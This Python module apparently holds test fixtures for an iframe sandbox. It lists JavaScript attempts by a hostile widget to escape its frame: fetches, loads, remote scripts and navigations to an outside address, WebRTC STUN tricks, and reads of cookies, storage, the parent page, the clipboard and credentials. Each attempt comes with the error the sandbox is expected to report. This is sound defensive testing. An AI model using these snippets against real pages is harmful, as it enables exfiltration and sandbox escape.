"""What a hostile widget tries to get out of its frame: code, and whether the like of it gets out of a plain frame.

`E` is an address elsewhere, `UDP` a port of it; `say` writes into the frame what happened.
"""

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True)
class Row:
    """One try."""

    name: str
    code: str
    plain: bool = True
    """Whether it arrives from a frame without any of our measures: else it is no news that it does not."""
    said: str | None = None
    """What the widget wrote of it; `None` where it does not matter."""


LINK: Final = "const l = document.createElement('link'); l.rel = '{}'; l.href = E; document.head.append(l);"
STUN: Final = """const c = new {}({{ iceServers: [{{ urls: 'stun:127.0.0.1:' + UDP }}] }});
c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer());"""
FRAME: Final = "const f = document.createElement('iframe'); document.body.append(f);"
ADD: Final = "document.body.append({});"

FETCHES: Final = (
    Row("fetch", "await fetch(E);", said="TypeError"),
    Row("fetch-keepalive", "await fetch(E, { keepalive: true, mode: 'no-cors' });", said="TypeError"),
    Row("xhr", "const x = new XMLHttpRequest(); x.open('GET', E, false); x.send();", said="NetworkError"),
    Row("websocket", "new WebSocket(E.replace('http', 'ws'));"),
    Row("event-source", "new EventSource(E);"),
    Row("beacon", "say(navigator.sendBeacon(E, 'x'));"),  # true, and nothing arrives
    Row("web-transport", "new WebTransport(E.replace('http', 'https'));", plain=False, said="ReferenceError"),
    Row("fetch-later", "self.fetchLater && fetchLater(E, { activateAfter: 0 });", plain=False),
    Row("report", "new ReportingObserver(() => 0); await fetch(E + '?r', { method: 'POST' });", said="TypeError"),
)
LOADS: Final = (
    Row("image", "new Image().src = E;"),
    Row("image-set", "const i = new Image(); i.srcset = E + ' 1x'; document.body.append(i);"),
    Row(
        "svg-image",
        "const n = 'http://www.w3.org/2000/svg', s = document.createElementNS(n, 'svg');"
        "const i = document.createElementNS(n, 'image'); i.setAttribute('href', E); s.append(i);" + ADD.format("s"),
    ),
    Row("css-url", "root.style.background = `url(${E})`;"),
    Row("css-import", "const s = document.createElement('style'); s.textContent = `@import '${E}'`; root.append(s);"),
    Row("css-font", "await new FontFace('x', `url(${E})`).load();", said="NetworkError"),
    Row(
        "css-sheet",
        "const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(${E}) }`);"
        "document.adoptedStyleSheets = [s];",
    ),
    Row("stylesheet", LINK.format("stylesheet")),
    Row("prefetch", LINK.format("prefetch")),
    Row("preload", LINK.format("preload").replace("l.href", "l.as = 'image'; l.href")),
    Row("modulepreload", LINK.format("modulepreload")),
    Row("icon", LINK.format("icon"), plain=False),
    Row("manifest", LINK.format("manifest"), plain=False),
    Row("prerender", LINK.format("prerender"), plain=False),
    Row("preconnect", LINK.format("preconnect"), plain=False),
    Row("dns-prefetch", LINK.format("dns-prefetch"), plain=False),
    Row("video", "const v = document.createElement('video'); v.src = E; v.poster = E + '?p'; root.append(v);"),
    Row("object", "const o = document.createElement('object'); o.data = E; document.body.append(o);"),
    Row("embed", "const o = document.createElement('embed'); o.src = E; document.body.append(o);"),
    Row(
        "speculation",
        "const s = document.createElement('script'); s.type = 'speculationrules'; s.append(JSON.stringify("
        "{ prefetch: [{ urls: [E], eagerness: 'immediate' }] })); document.head.append(s);",
        plain=False,
    ),
    Row("worklet", "await CSS.paintWorklet.addModule(E);", plain=False),
    Row(
        "policy-report",
        "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy';"
        "m.content = `img-src 'none'; report-uri ${E}`; document.head.append(m); new Image().src = 'data:,';",
        plain=False,
    ),
    Row(
        "own-policy",
        "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy';"
        "m.content = `connect-src *; script-src *`; document.head.append(m); await fetch(E);",
        said="TypeError",
    ),
    Row(
        "base",
        "const b = document.createElement('base'); b.href = E; document.head.append(b); new Image().src = 'x';",
        plain=False,
    ),
)
CODE: Final = (
    Row("script", "const s = document.createElement('script'); s.src = E; document.head.append(s);", said="TypeError"),
    Row("import", "await import(E);", said="TypeError"),
    Row(
        "import-blob",
        "await import(URL.createObjectURL(new Blob(['fetch(E)'], { type: 'text/javascript' })));",
        plain=False,
        said="TypeError",
    ),
    Row("import-data", "await import('data:text/javascript,export default 1');", plain=False, said="TypeError"),
    Row(
        "import-map",
        "const s = document.createElement('script'); s.type = 'importmap'; s.nonce = 'map';"
        "s.textContent = JSON.stringify({ imports: { x: E } }); document.head.append(s); await import('x');",
        plain=False,
        said="TypeError",
    ),
    Row(
        "nonce",
        "const s = document.createElement('script'); s.nonce = 'map'; s.append(`fetch('${E}')`);"
        "document.head.append(s);",
    ),
    Row("eval", "eval(`fetch('${E}')`);", said="EvalError"),
    Row("function", "new Function(`fetch('${E}')`)();", said="EvalError"),
    Row("timer", "setTimeout(`fetch('${E}')`);", said="TypeError"),
    Row("handler", "root.setAttribute('onclick', `fetch('${E}')`); root.click();", said="TypeError"),
    Row("markup", "root.innerHTML = `<img src='${E}'>`;", said="TypeError"),
    Row(
        "policy",
        "const p = trustedTypes.createPolicy('frame', { createHTML: (x) => x });"
        "root.innerHTML = p.createHTML(`<img src='${E}'>`);",
        said="TypeError",
    ),
    Row(
        "wasm",
        "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));",
        plain=False,
        said="CompileError",
    ),
    Row("worker", "const w = URL.createObjectURL(new Blob([`fetch('${E}')`])); new Worker(w);", said="TypeError"),
    Row("shared-worker", "new SharedWorker(E);", plain=False, said="TypeError"),
    Row("service-worker", "await navigator.serviceWorker.register(E);", plain=False, said="SecurityError"),
    Row("audio-worklet", "await new AudioContext().audioWorklet.addModule(E);", plain=False),
)
WAYS_OUT: Final = (
    Row("navigate", "location = E;"),
    Row("navigate-api", "navigation.navigate(E);"),
    Row("navigate-data", "location = `data:text/html,<img src='${E}'>`;"),
    Row("navigate-blob", "location = URL.createObjectURL(new Blob([`<img src='${E}'>`], { type: 'text/html' }));"),
    Row("navigate-script", "location = `javascript:fetch('${E}')`;"),
    Row(
        "refresh",
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${E}`;"
        "document.head.append(m);",
    ),
    Row("anchor", "const a = document.createElement('a'); a.href = E; root.append(a); a.click();"),
    Row("ping", "const a = document.createElement('a'); a.href = '#x'; a.ping = E; root.append(a); a.click();"),
    Row(
        "download",
        "const a = document.createElement('a'); a.href = E; a.download = 'x'; root.append(a); a.click();",
        plain=False,
    ),
    Row(
        "form", "const f = document.createElement('form'); f.action = E; f.method = 'post'; root.append(f); f.submit();"
    ),
    Row("popup", "say(window.open(E));", plain=False, said="null"),
    Row("top", "top.location = E;", plain=False, said="SecurityError"),
    Row("parent", "parent.location.replace(E);", plain=False, said="SecurityError"),
    Row("frame", FRAME + "f.src = E;"),
    Row("frame-navigate", FRAME + "f.contentWindow.location = E;"),
    Row("frame-srcdoc", FRAME + "f.setAttribute('srcdoc', `<img src='${E}'>`);", said="TypeError"),
    Row("frame-blob", FRAME + "f.src = URL.createObjectURL(new Blob([`<img src='${E}'>`], { type: 'text/html' }));"),
)
REALMS: Final = (
    Row("stun", STUN.format("RTCPeerConnection"), said="ReferenceError"),
    Row("stun-webkit", STUN.format("(self.webkitRTCPeerConnection ?? RTCPeerConnection)"), said="ReferenceError"),
    Row("realm-blank", FRAME + STUN.format("f.contentWindow.RTCPeerConnection"), said="SecurityError"),
    Row("realm-frames", FRAME + STUN.format("self[0].RTCPeerConnection"), said="SecurityError"),
    Row(
        "realm-object",
        "const o = document.createElement('object'); o.data = 'about:blank'; document.body.append(o);"
        + STUN.format("o.contentWindow.RTCPeerConnection"),
        plain=False,
        said="TypeError",
    ),
    Row("realm-open", STUN.format("window.open('about:blank').RTCPeerConnection"), plain=False, said="TypeError"),
    Row("realm-parent", STUN.format("parent.RTCPeerConnection"), plain=False, said="SecurityError"),
    Row(
        "realm-document",
        STUN.format("document.implementation.createHTMLDocument('x').defaultView.RTCPeerConnection"),
        plain=False,
        said="TypeError",
    ),
    Row("xslt", "new XSLTProcessor();", plain=False, said="ReferenceError"),
)
PAGE: Final = (
    Row("parent-dom", "say(parent.document.title);", plain=False, said="SecurityError"),
    Row("parent-host", "say(parent.hostData);", plain=False, said="SecurityError"),
    Row("frame-element", "say(frameElement);", plain=False, said="null"),
    Row("cookies", "say(document.cookie);", plain=False, said="SecurityError"),
    Row("storage", "say(localStorage.length);", plain=False, said="SecurityError"),
    Row("session", "say(sessionStorage.length);", plain=False, said="SecurityError"),
    Row("database", "say(indexedDB.open('x'));", plain=False, said="SecurityError"),
    Row("caches", "say(await caches.keys());", plain=False, said="SecurityError"),
    Row("origin", "say(self.origin);", plain=False, said="null"),
    Row("siblings", "say(parent[0].document);", plain=False, said="SecurityError"),
    Row("alert", "say(alert('x')); say(confirm('x')); say(prompt('x'));", plain=False, said="undefinedfalsenull"),
    Row("clipboard", "say(await navigator.clipboard.readText());", plain=False, said="NotAllowedError"),
    Row("camera", "await navigator.mediaDevices.getUserMedia({ video: true });", plain=False),
    Row("place", "await new Promise((a, b) => navigator.geolocation.getCurrentPosition(a, b));", plain=False),
    Row("credentials", "await navigator.credentials.get({ password: true });", plain=False, said="NotAllowedError"),
)
ROWS: Final = (*FETCHES, *LOADS, *CODE, *WAYS_OUT, *REALMS, *PAGE)
